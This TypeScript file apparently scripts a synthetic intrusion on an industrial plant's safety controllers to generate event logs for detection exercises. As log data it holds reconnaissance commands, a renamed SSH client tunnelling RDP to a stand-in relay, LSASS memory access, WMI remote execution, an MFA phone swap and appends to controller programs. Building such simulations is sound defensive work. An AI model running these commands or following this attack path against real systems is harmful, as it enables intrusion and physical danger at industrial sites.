import type { Place } from '../core/organisation.ts'
import { addDesktop, addProcess, addReads, addTriStation, addTunnel } from '../kit/acts.ts'
import { step } from '../kit/pack.ts'
import type { Course, Step } from '../kit/pack.ts'
import { onController, onHost } from '../kit/world.ts'
import type { World } from '../kit/world.ts'
import { addNote } from '../native/paperwork.ts'
import { taskRegistered } from '../native/windows-directory.ts'
import { sysmonAccess, sysmonConnection, sysmonFile } from '../native/windows-other.ts'
import { accountChange, ticketGranted } from '../native/windows-security.ts'
import { addPhoneChange, addRemoteExecution, TRILOG, WEB_WORKER } from './life.ts'
import { CONTROLLERS, site } from './site.ts'

const RELAY = '203.0.113.61'
/** A rented server in the same country: nobody travels impossibly. */
const RENTED: Place = { address: '203.0.113.62', asn: 64628, city: 'Riyadh', country: 'SA' }
/** From the pool that the staff at home get their addresses from. */
export const LEASE = '10.140.16.23'
const SHELL = 'C:\\Windows\\System32\\cmd.exe'
const TOOL = 'C:\\Windows\\Temp\\KB4019264.exe'
const BROADCAST = '10.141.51.255'
const MINUTE = 60_000

export const DRAWINGS: readonly string[] = [
  'SIS\\Cause and effect ESD unit 2.xlsx', 'SIS\\Cause and effect sulphur recovery.xlsx', 'SIS\\Network drawing safety systems.vsdx', 'SIS\\Keyswitch procedure.pdf', 'SIS\\SIS-A project.pt2', 'SIS\\SIS-B project.pt2', 'SIS\\SIS-C project.pt2',
  'SIS\\Burner management manual.pdf', 'SIS\\IP list safety network.xlsx', 'DCS\\Firewall rules OT.xlsx', 'DCS\\Jump box accounts.docx', ...Array.from({ length: 22 }, (_, i) => `Units\\P&ID unit 2 sheet ${i + 1}.dwg`),
]

/** The way the engineer takes: tunnel, jump box, station of the safety systems. */
function reachStation(w: World, at: number, minutes: number): void {
  addTunnel(w, { group: 'STAFF', user: 'm.salim', place: RENTED, lease: LEASE, from: at - 6 * MINUTE, minutes: minutes + 12, bytes: w.random.int(6_000_000, 40_000_000), mfa: true })
  addDesktop(w, { user: 'm.salim', from: LEASE, to: 'JUMP-1', start: at - 3 * MINUTE, end: at + minutes * MINUTE })
  addDesktop(w, { user: 'm.salim', from: 'JUMP-1', to: 'SIS-EWS', start: at, end: at + (minutes - 1) * MINUTE })
}

/** June: from an old foothold in the mail server to the first trip, which everybody takes for a fault. */
const june: readonly Step[] = [
  step('page-commands', site.at(2, '23:12:40'), 1, 'T1505.003', null, 'Commands through a page of the web mail that has been there for longer than the logs reach', (w, at) => {
    for (const [i, line] of ['whoami /all', 'net group "Domain Admins" /domain', 'nltest /dclist:rasan.example', 'net user m.salim /domain'].entries()) addProcess(w, 'MAIL01', at + i * 47_000, 'NT AUTHORITY\\SYSTEM', SHELL, `cmd.exe /c ${line}`, WEB_WORKER)
  }),
  step('tunnel-out', site.at(3, '01:30:05'), 1, 'T1572', null, 'A renamed SSH client forwards a port of the mail server to the outside', (w, at) => {
    onHost(w, 'MAIL01', at, sysmonFile(at, 'NT AUTHORITY\\SYSTEM', WEB_WORKER, TOOL))
    addProcess(w, 'MAIL01', at + 40_000, 'NT AUTHORITY\\SYSTEM', TOOL, `${TOOL} -N -P 443 -R 8531:127.0.0.1:3389 ${RELAY}`, SHELL)
    onHost(w, 'MAIL01', at + 41_000, sysmonConnection(at + 41_000, 'NT AUTHORITY\\SYSTEM', TOOL, site.address('MAIL01'), RELAY, 443))
  }),
  step('memory-read', site.at(5, '02:20:30'), 2, 'T1003.001', null, 'A program with the name of an update reads the memory of the logon process', (w, at) => {
    addProcess(w, 'MAIL01', at, 'adm-app', 'C:\\Windows\\Temp\\KB4015217.exe', 'C:\\Windows\\Temp\\KB4015217.exe -q', SHELL)
    onHost(w, 'MAIL01', at + 900, sysmonAccess(at + 900, 'adm-app', 'C:\\Windows\\Temp\\KB4015217.exe', 'C:\\Windows\\System32\\lsass.exe', '0x1410'))
  }),
  step('remote-execution', site.at(9, '23:31:15'), 2, 'T1047', null, 'adm-app runs commands on the file server over WMI from the mail server', (w, at) => {
    for (const [i, line] of ['powershell.exe -NonInteractive -EncodedCommand RwBlAHQALQBQAHIAbwBjAGUAcwBzAA==', 'powershell.exe -NonInteractive -Command "Get-ChildItem D:\\ENG\\SIS -Recurse"'].entries()) addRemoteExecution(w, 'FS01', at + i * 190_000, 'adm-app', site.address('MAIL01'), line)
  }),
  step('drawings', site.at(10, '00:05:00'), 2, 'T1039', 'ot_documents', 'Causes and effects, projects and drawings of the safety systems, with the password of M. Salim', (w, at) => addReads(w, 'm.salim', 'MAIL01', at, 6500, DRAWINGS)),
  step('phone-changed', site.at(11, '22:47:20'), 4, 'T1556.006', 'remote_access_change', 'The telephone that gets M. Salim’s one-time passwords is changed by the account of the helpdesk', (w, at) => {
    onController(w, at - 5 * MINUTE, ticketGranted('adm-help', site.address('MAIL01')))
    addPhoneChange(w, at, 'adm-help', site.office.address, 'm.salim')
  }),
  step('engineer-tunnel', site.at(13, '23:00:00'), 3, 'T1133', 'engineering_access', 'M. Salim’s account on the VPN with a password that now goes to another telephone', (w, at) => addTunnel(w, { group: 'STAFF', user: 'm.salim', place: RENTED, lease: LEASE, from: at, minutes: 70, bytes: 14_118_000, mfa: true })),
  step('jump-box', site.at(13, '23:06:00'), 3, 'T1021.001', 'engineering_access', 'By the tunnel to the jump box', (w, at) => { addDesktop(w, { user: 'm.salim', from: LEASE, to: 'JUMP-1', start: at, end: at + 60 * MINUTE }) }),
  step('safety-station', site.at(13, '23:10:00'), 3, 'T0886', 'engineering_access', 'From the jump box to the station of the safety systems, which the firewall lets pass', (w, at) => { addDesktop(w, { user: 'm.salim', from: 'JUMP-1', to: 'SIS-EWS', start: at, end: at + 52 * MINUTE }) }),
  step('controllers-asked', site.at(15, '22:48:00'), 4, 'T0846', 'engineering_access', 'The station calls into its whole network for safety controllers and asks each', (w, at) => {
    reachStation(w, at, 45)
    addTriStation(w, at + 12 * MINUTE, 'SIS-EWS', BROADCAST, 4, 84, 0)
    for (const [i, name] of CONTROLLERS.entries()) addTriStation(w, at + 13 * MINUTE + i * 4000, 'SIS-EWS', name, 3, 420, 1900)
  }),
  step('program-read', site.at(17, '23:20:10'), 4, 'T0845', 'engineering_access', 'The program of SIS-B is read', (w, at) => {
    reachStation(w, at, 40)
    addTriStation(w, at + 9 * MINUTE, 'SIS-EWS', 'SIS-B', 412, 24_118, 611_940)
  }),
  step('first-append', site.at(20, '19:58:00'), 5, 'T0843', 'engineering_access', 'Code is appended to the program of SIS-B, whose key stands in PROGRAM', (w, at) => {
    reachStation(w, at - 20 * MINUTE, 50)
    addTriStation(w, at, 'SIS-EWS', 'SIS-B', 435, 27_020, 117_316)
    addTriStation(w, at + 8 * MINUTE, 'SIS-EWS', 'SIS-B', 118, 31_410, 20_118)
  }),
  step('first-trip', site.at(20, '20:11:00'), 5, 'T0828', null, 'The processors of SIS-B disagree and shut unit 2 down; the plant calls it a fault of the equipment', (w, at) => {
    addNote(w.recorder, at, 'Rasan', 'Board operator', 'ESD of unit 2 from SIS-B, no process cause, all three processors in fault, unit in safe state')
    addNote(w.recorder, at + 50 * MINUTE, 'Rasan', 'Shift superintendent', 'SIS-B fault, vendor called, assume main processor, unit stays down')
  }),
]

/** July and August: one look from time to time, then the station again. */
const summer: readonly Step[] = [
  step('check-in', site.at(47, '00:20:00'), 3, 'T1133', 'engineering_access', 'Nine minutes on the jump box, four weeks after the trip', (w, at) => {
    addTunnel(w, { group: 'STAFF', user: 'm.salim', place: RENTED, lease: LEASE, from: at, minutes: 14, bytes: 2_118_000, mfa: true })
    addDesktop(w, { user: 'm.salim', from: LEASE, to: 'JUMP-1', start: at + 3 * MINUTE, end: at + 12 * MINUTE })
  }),
  step('station-by-remote', site.at(68, '23:15:00'), 3, 'T1047', 'engineering_access', 'Commands on the station of the safety systems over WMI from the jump box', (w, at) => {
    addTunnel(w, { group: 'STAFF', user: 'm.salim', place: RENTED, lease: LEASE, from: at - 8 * MINUTE, minutes: 50, bytes: 9_118_000, mfa: true })
    addDesktop(w, { user: 'm.salim', from: LEASE, to: 'JUMP-1', start: at - 5 * MINUTE, end: at + 35 * MINUTE })
    addRemoteExecution(w, 'SIS-EWS', at, 'm.salim', site.address('JUMP-1'), 'powershell.exe -NonInteractive -Command "Get-Process; Get-NetTCPConnection"')
  }),
  step('station-task', site.at(68, '23:31:00'), 4, 'T1053.005', null, 'A task on the station, with a name as the vendor’s', (w, at) => onHost(w, 'SIS-EWS', at, taskRegistered('m.salim', '\\Triconex\\TriLog Collect', SHELL, `/c "${TRILOG}\\tslog.exe" -poll`))),
  step('station-tools', site.at(79, '22:40:00'), 4, 'T0849', null, 'A program that looks like the vendor’s log reader, its library and two binaries are put on the station', (w, at) => {
    reachStation(w, at - 10 * MINUTE, 40)
    for (const [i, file] of ['tslog.exe', 'library.zip', 'buffer.bin', 'export.bin'].entries()) onHost(w, 'SIS-EWS', at + i * 8000, sysmonFile(at + i * 8000, 'm.salim', 'C:\\Windows\\explorer.exe', `${TRILOG}\\${file}`))
  }),
]

const second = site.at(82, '18:55:00')

/** What shows of the second attempt, whether it succeeds or not. */
function runTool(w: World, at: number, minutes: number): void {
  reachStation(w, at - 25 * MINUTE, minutes)
  for (const [i, name] of ['SIS-A', 'SIS-C'].entries()) addProcess(w, 'SIS-EWS', at + i * 12 * MINUTE, 'm.salim', `${TRILOG}\\tslog.exe`, `tslog.exe ${site.address(name)}`)
}

export const steps: readonly Step[] = [
  ...june, ...summer,
  step('second-append', second, 5, 'T0843', 'engineering_access', 'Code is appended to the programs of SIS-A and SIS-C', (w, at) => {
    runTool(w, at, 90)
    for (const [i, name] of ['SIS-A', 'SIS-C'].entries()) {
      addTriStation(w, at + 20_000 + i * 12 * MINUTE, 'SIS-EWS', name, 435, 27_020, 117_316)
      addTriStation(w, at + 9 * MINUTE + i * 12 * MINUTE, 'SIS-EWS', name, 118, 31_410, 20_118)
    }
  }),
  step('second-trip', site.at(82, '19:43:00'), 5, 'T0828', null, 'Two safety systems shut their units down at once; both keys stand in PROGRAM', (w, at) => {
    addNote(w.recorder, at, 'Rasan', 'Board operator', 'ESD of sulphur recovery and burners at the same time, SIS-A and SIS-C in fault, no process cause')
    addNote(w.recorder, at + 70 * MINUTE, 'Rasan', 'Shift superintendent', 'Keys of SIS-A and SIS-C found in PROGRAM, somebody was on SIS-EWS tonight, this is no equipment fault. Station unplugged')
  }),
]

/** The key returned in time: the controllers refuse, and somebody asks who is there. */
export const keyReturned: Course = {
  steps: [...june, ...summer, step('refused-append', second, 5, 'T0843', 'engineering_access', 'SIS-A and SIS-C refuse the code: their keys stand in RUN', (w, at) => {
    runTool(w, at, 46)
    for (const [i, name] of ['SIS-A', 'SIS-C'].entries()) addTriStation(w, at + 20_000 + i * 12 * MINUTE, 'SIS-EWS', name, 9, 710, 640)
  })],
  response: [
    { id: 'key-round', description: 'A round finds two keys left in PROGRAM and returns them', write: (w) => addNote(w.recorder, site.at(81, '09:30'), 'Rasan', 'Shift superintendent', 'Keys of SIS-A and SIS-C found in PROGRAM since WO-588, turned to RUN and taken out') },
    { id: 'station-unplugged', description: 'The board sees a refused download and has the station unplugged and the account blocked', write: (w) => {
      addNote(w.recorder, second + 20 * MINUTE, 'Rasan', 'Board operator', 'Alarm on DCS: download to SIS-A refused, key in RUN. M. Salim is at home and knows nothing. SIS-EWS unplugged')
      onController(w, second + 35 * MINUTE, accountChange(4725, 'adm-net', 'm.salim'))
    } },
  ],
}
